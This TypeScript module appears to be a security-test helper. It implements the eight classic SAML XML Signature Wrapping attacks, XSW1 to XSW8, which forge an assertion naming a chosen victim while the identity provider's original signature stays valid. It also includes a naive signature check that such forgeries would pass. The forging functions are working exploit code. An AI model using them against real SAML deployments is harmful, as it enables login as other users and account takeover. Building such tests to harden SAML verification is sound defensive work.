import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';
import type { KeyPair } from '../../../servers/certificates';

/** A response taken apart: the assertion that the provider signed, and a forged copy that names somebody else. */
interface Parts {
  readonly response: Element;
  readonly signed: Element;
  readonly signature: Element;
  /** The signed assertion without its signature. */
  readonly bare: Element;
  /** A copy without signature, with another identifier and another person. */
  readonly forged: Element;
}

const dsig = 'http://www.w3.org/2000/09/xmldsig#';
const protocol = 'urn:oasis:names:tc:SAML:2.0:protocol';

const child = (parent: Element, name: string): Element => {
  const found = Array.from(parent.childNodes).find((node) => (node as Element).localName === name);
  if (!found) throw new Error(`${parent.localName} has no ${name}`);
  return found as Element;
};

const clone = (element: Element) => element.cloneNode(true) as Element;

function forge(element: Element, victim: string): Element {
  const forged = clone(element);
  forged.setAttribute('ID', `_forged${element.getAttribute('ID') ?? ''}`);
  const nameId = Array.from(forged.getElementsByTagNameNS('*', 'NameID'))[0];
  if (!nameId) throw new Error('no NameID');
  nameId.textContent = victim;
  return forged;
}

function without(element: Element, name: string): Element {
  const copy = clone(element);
  copy.removeChild(child(copy, name));
  return copy;
}

function element(parent: Element, namespace: string, name: string): Element {
  const made = parent.ownerDocument.createElementNS(namespace, name);
  parent.appendChild(made);
  return made;
}

/** A response whose whole is signed, forged: the signature covers the original, which goes where `hide` puts it. */
function wrapResponse(
  { response }: Parts,
  victim: string,
  hide: (signature: Element, original: Element) => void,
) {
  const original = without(response, 'Signature');
  const signature = child(response, 'Signature');
  response.setAttribute('ID', `_forged${response.getAttribute('ID') ?? ''}`);
  const nameId = Array.from(response.getElementsByTagNameNS('*', 'NameID'))[0];
  if (nameId) nameId.textContent = victim;
  hide(signature, original);
}

/**
 * The eight classic signature wrappings (Somorovsky et al., "On Breaking SAML", in the numbering of SAML Raider). Each
 * keeps the provider's signature valid over what it signed, and puts a forged assertion where a careless reader looks.
 */
const wrappings: Record<string, (parts: Parts, victim: string) => void> = {
  'XSW1: the signed response inside the signature of a forged one': (parts, victim) =>
    wrapResponse(parts, victim, (signature, original) => signature.appendChild(original)),
  'XSW2: the signed response before the detached signature of a forged one': (parts, victim) =>
    wrapResponse(parts, victim, (signature, original) =>
      signature.parentNode?.insertBefore(original, signature),
    ),
  'XSW3: a forged assertion before the signed one': ({ response, signed, forged }) =>
    response.insertBefore(forged, signed),
  'XSW4: the signed assertion inside a forged one': ({ response, signed, forged }) => {
    response.replaceChild(forged, signed);
    forged.appendChild(signed);
  },
  'XSW5: the signed assertion changed, and its original beside it': ({ response, signed, bare }, victim) => {
    const changed = forge(signed, victim);
    response.replaceChild(changed, signed);
    response.appendChild(bare);
  },
  'XSW6: the original inside the signature of a changed assertion': ({ response, signed, bare }, victim) => {
    const changed = forge(signed, victim);
    response.replaceChild(changed, signed);
    child(changed, 'Signature').appendChild(bare);
  },
  'XSW7: a forged assertion in Extensions': ({ response, signed, forged }) => {
    const extensions = element(response, protocol, 'samlp:Extensions');
    response.insertBefore(extensions, signed);
    extensions.appendChild(forged);
  },
  'XSW8: the original in an Object of the signature of a changed assertion': (
    { response, signed, bare },
    victim,
  ) => {
    const changed = forge(signed, victim);
    response.replaceChild(changed, signed);
    element(child(changed, 'Signature'), dsig, 'Object').appendChild(bare);
  },
};

export const wrappingNames = Object.keys(wrappings);

/** The XML of a wrapped response in which the forged assertion names `victim`. */
export function wrap(name: string, xml: string, victim: string): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement as unknown as Element;
  const signed = child(response, 'Assertion');
  const signature = child(signed, 'Signature');
  const parts = {
    response,
    signed,
    signature,
    bare: without(signed, 'Signature'),
    forged: forge(without(signed, 'Signature'), victim),
  };
  wrappings[name]?.(parts, victim);
  return new XMLSerializer().serializeToString(document);
}

/** True where a reader that only asks whether some signature in a document holds would be content. */
export function hasSignatureOf({ cert }: KeyPair, xml: string): boolean {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  return Array.from(document.getElementsByTagNameNS(dsig, 'Signature')).some((signature) => {
    const checker = new SignedXml({ publicCert: cert });
    try {
      checker.loadSignature(signature as unknown as Node);
      return checker.checkSignature(xml);
    } catch {
      return false; // how the library says no
    }
  });
}
